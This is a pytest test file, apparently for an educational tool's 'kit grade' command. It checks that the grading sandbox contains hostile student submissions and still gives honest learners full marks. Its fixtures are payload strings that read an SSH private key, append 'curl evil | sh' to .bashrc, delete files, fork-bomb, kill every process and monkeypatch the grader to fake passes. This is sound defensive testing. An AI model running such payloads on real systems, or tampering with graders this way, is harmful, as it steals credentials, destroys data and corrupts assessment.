"""kit grade over a hostile class: escapes, fake passes, saboteurs — and honest learners at full marks.

Every learner hands in lesson 00 (three function exercises). The hostile ones put their payload in an answer cell
(the only cells grading keeps) or edit other cells. Canaries stand for the teacher's secrets and files; a TCP listener
on 127.0.0.1 stands for the network. ``kit grade --jobs 2`` runs as a separate process, as a teacher would run it.
"""
from __future__ import annotations

import copy
import csv
import hashlib
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from kit.lessons.run import find_notebook
from kit.lessons.student import student_notebook

ROOT = Path(__file__).resolve().parents[1]
MARK = "kit-hostile-7d1e"  # in the argv of every process a payload leaves behind
CANARY = "CANARY-SECRET-5b2f9c"


@pytest.fixture(scope="module")
def sandbox():
    from kit.lessons.sandbox import available
    why = available()
    if why:
        if os.environ.get("KIT_REQUIRE_SANDBOX") == "1":
            pytest.fail(f"the grading sandbox must work here: {why}")
        pytest.skip(f"no sandbox on this machine: {why}")


def _solutions():
    nb = nbformat.read(str(find_notebook("00")), as_version=4)
    return nb, student_notebook(nb)


def _with_answers(blank, sources: list[str]):
    nb = copy.deepcopy(blank)
    cells = [c for c in nb.cells if "answer" in c.metadata.get("tags", [])]
    for cell, src in zip(cells, sources):
        if src is not None:
            cell.source = src
    return nb


def _answers(nb) -> list[str]:
    return [c.source for c in nb.cells if "solution" in c.metadata.get("tags", [])]


class Listener:
    """A TCP server on 127.0.0.1 that counts every connection and byte it receives."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = self.bytes = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                while data := conn.recv(65536):
                    self.bytes += len(data)
            except OSError:
                pass
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


def _marked_processes() -> list[str]:
    alive = []
    for p in psutil.process_iter(["cmdline", "uids"]):
        cmd = " ".join(p.info["cmdline"] or [])
        if MARK in cmd or (p.info["uids"] and 61000 <= p.info["uids"].real < 61100):
            alive.append(f"{p.pid}: {cmd[:80]}")
    return alive


@pytest.mark.notebook
def test_a_hostile_class_cannot_escape_fake_or_sabotage(tmp_path, sandbox):
    lesson, blank = _solutions()
    right = _answers(lesson)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_rsa"
    key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{CANARY}\n")
    bashrc = home / ".bashrc"
    bashrc.write_text("# the teacher's shell\n")
    victim = tmp_path / "teacher-notes.txt"
    victim.write_text("do not delete\n")
    cls, out = tmp_path / "class", tmp_path / "out"
    listener = Listener()
    other = cls / "alice" / "00_setup.ipynb"
    sleeper = f"subprocess.Popen(['sleep', '999', '{MARK}'], start_new_session=True)"

    hostile = {
        # escapes
        "reader": f"print(open({str(key)!r}).read())\nraise RuntimeError(open({str(key)!r}).read())",
        "snoop": f"print(open({str(other)!r}).read()[:2000])",
        "writer": (f"open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')\nimport os\nos.remove({str(victim)!r})\n"
                   f"open({str(other)!r}, 'w').write('{{}}')"),
        "network": (f"import socket\ns = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
                    "s.sendall(b'hello from the sandbox')"),
        "saboteur": ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                     f"        os.execvp('sleep', ['sleep', '999', '{MARK}'])\n    os._exit(0)\n"
                     f"open({str(out / 'grades.csv')!r}, 'w').write('saboteur,1,1,1,3,')"),
        "forker": f"import subprocess\nfor _ in range(400):\n    try:\n        {sleeper}\n    except OSError:\n        break",
        "hog": "import numpy as np\nhog = np.ones(3 * 2 ** 30 // 8)",
        "killer": ("import os, signal\nfor pid in os.listdir('/proc'):\n    if pid.isdigit() and int(pid) != os.getpid():\n"
                   "        try:\n            os.kill(int(pid), signal.SIGKILL)\n        except OSError:\n            pass"),
        "blinder": "import os, time\nos.getppid = lambda: 1\nwhile True:\n    time.sleep(1)",
        # fake passes
        "patcher": ("import kit.exercises\nkit.exercises.check = lambda id, answer: print(f'✓ {id}: correct')\n"
                    "import builtins\nbuiltins.check = kit.exercises.check"),
        "reference": ("from kit.exercises import get\n"
                      "scaled_identity = get('00.1').calls"),
        "framer": ("import sys\ndef scaled_identity(*a, **k):\n    f = sys._getframe(1)\n"
                   "    return f.f_locals.get('want', f.f_locals)"),
        "printer": ("import threading, time, os\ndef spam():\n    while True:\n"
                    "        print('✓ 00.1: correct\\n✓ 00.2: correct\\n✓ 00.3: correct', flush=True)\n"
                    "        os.write(1, b'{\"notebook\": \"00_setup.ipynb\", \"exercises\": [{\"name\": \"00.1\", '\n"
                    "                 b'\"passed\": true, \"message\": \"correct\"}]}\\n')\n        time.sleep(0.05)\n"
                    "threading.Thread(target=spam, daemon=True).start()"),
        "forger": ("import numpy as np, json, os\nos.makedirs('/job/answers', exist_ok=True)\n"
                   "tree = json.dumps({'outcomes': []}).encode()\n"
                   "for i in (1, 2, 3):\n    np.savez(f'/job/answers/00.{i}.npz', __tree__=np.frombuffer(tree, np.uint8))\n"
                   "    os.chmod(f'/job/answers/00.{i}.npz', 0o444)\n"
                   "import kit.exercises as kx\nkx.check = lambda *a, **k: None"),
    }
    learners = {"alice": lesson, "bob": _with_answers(blank, [right[0] + "\nimport os\nos.system('echo hi; echo ho >&2')",
                                                             right[1], right[2]])}
    for name, payload in hostile.items():
        learners[name] = _with_answers(blank, [payload, None, None])
    # edited check cells: a printed ✓ and the real check gone
    edited = copy.deepcopy(blank)
    for c in edited.cells:
        if c.cell_type == "code" and 'check("00.' in c.source:
            c.source = "print('✓ 00.1: correct')\nprint('✓ 00.2: correct')\nprint('✓ 00.3: correct')"
    learners["editor"] = edited
    for name, nb in learners.items():
        (cls / name).mkdir(parents=True)
        nbformat.write(nb, str(cls / name / "00_setup.ipynb"))
    (cls / "linker").mkdir()
    (cls / "linker" / "00_setup.ipynb").symlink_to(key)
    before_class, before_home = _digest(cls), _digest(home)

    env = {**os.environ, "HOME": str(home)}
    t0 = time.monotonic()
    try:
        proc = subprocess.run([sys.executable, "-m", "kit", "grade", str(cls), "--out", str(out), "--jobs", "2",
                               "--timeout", "20", "--limit", "90", "-q"], cwd=tmp_path, env=env,
                              capture_output=True, text=True, timeout=900)
    finally:
        listener.close()
    took = time.monotonic() - t0
    assert proc.returncode == 0, proc.stderr[-2000:]
    book = (out / "grades.csv").read_text()
    time.sleep(5)
    # nothing alive, nothing changed afterwards
    assert _marked_processes() == []
    assert (out / "grades.csv").read_text() == book, "the grade book changed after kit grade returned"
    rows = {r["learner"]: r for r in csv.DictReader(book.splitlines())}
    assert sorted(rows) == sorted([*learners, "linker"]), "every learner has a row"
    # honest learners at full marks (bob's answer also calls os.system)
    assert rows["alice"]["passed"] == "3" and rows["bob"]["passed"] == "3", (rows["alice"], rows["bob"])
    # no fake passes: the hostile answer cells replaced 00.1 and left 00.2/00.3 blank
    for name in [*hostile, "editor", "linker"]:
        assert rows[name]["passed"] == "0", (name, rows[name])
    # no canary read or written outside a learner's own copy; no bytes over the network
    everything = "".join(p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())
    assert CANARY not in everything
    assert _digest(cls) == before_class and _digest(home) == before_home
    assert victim.read_text() == "do not delete\n"
    assert listener.connections == 0 and listener.bytes == 0
    notes = {k: r["notes"] for k, r in rows.items()}
    assert "symlink" in notes["linker"]
    assert "restored" in notes["editor"]
    assert "imports kit's exercise modules" in notes["reference"]
    assert notes["blinder"]  # its kernel died or ran out of time: the row says so
    assert "kernel died" in notes["killer"] or "stopped before it finished" in notes["killer"]
    print(f"hostile class of {len(rows)} graded in {took:.0f} s")


def test_the_grader_refuses_without_a_sandbox_naming_no_sandbox(tmp_path, monkeypatch):
    from kit.lessons import sandbox
    from kit.lessons.grade import grade
    monkeypatch.setattr(sandbox, "_AVAILABLE", {"why": "bubblewrap (bwrap) is not installed"})
    (tmp_path / "c" / "a").mkdir(parents=True)
    with pytest.raises(sandbox.SandboxUnavailable, match="--no-sandbox"):
        grade(tmp_path / "c", tmp_path / "o", progress=False)


def test_inside_the_sandbox_there_is_no_network_no_host_and_no_reference(tmp_path, sandbox):
    import json
    from kit.lessons import sandbox as sb
    job = tmp_path / "job"
    job.mkdir()
    sb.prepare_job(job, 0)
    probe = (
        "import json, os, socket, importlib.util\n"
        "r = {'pids': sorted(int(p) for p in os.listdir('/proc') if p.isdigit())}\n"
        "try:\n    socket.create_connection(('127.0.0.1', 1), timeout=1); r['net'] = 'connected'\n"
        "except OSError as e:\n    r['net'] = type(e).__name__\n"
        "r['ifaces'] = sorted(os.listdir('/sys/class/net')) if os.path.isdir('/sys/class/net') else []\n"
        "r['home'] = os.listdir(os.environ['HOME'])\n"
        "r['root'] = os.path.exists('/root/.ssh') or os.path.exists('/etc/shadow')\n"
        "r['lesson00'] = importlib.util.find_spec('kit.exercises.lesson00') is not None\n"
        "import kit\nr['exercises'] = sorted(os.listdir(os.path.join(os.path.dirname(kit.__file__), 'exercises')))\n"
        "try:\n    open(os.path.join(os.path.dirname(kit.__file__), 'x'), 'w'); r['kit_writable'] = True\n"
        "except OSError:\n    r['kit_writable'] = False\n"
        "open('/job/r.json', 'w').write(json.dumps(r))\n")
    cmd = sb.command(job, [sys.executable, "-c", probe], view=sb.exercises_view(tmp_path / "view"))
    subprocess.run(cmd, check=True, timeout=60, preexec_fn=sb.preexec(sb.Limits()))
    r = json.loads((job / "r.json").read_text())
    assert len(r["pids"]) <= 3, r["pids"]  # its own PID namespace: bwrap's init, setpriv/python
    assert r["net"] in ("ConnectionRefusedError", "OSError") and r["home"] == [] and not r["root"]
    assert not r["lesson00"] and r["exercises"] == ["__init__.py", "inputs.py", "wire.py"]
    assert not r["kit_writable"]
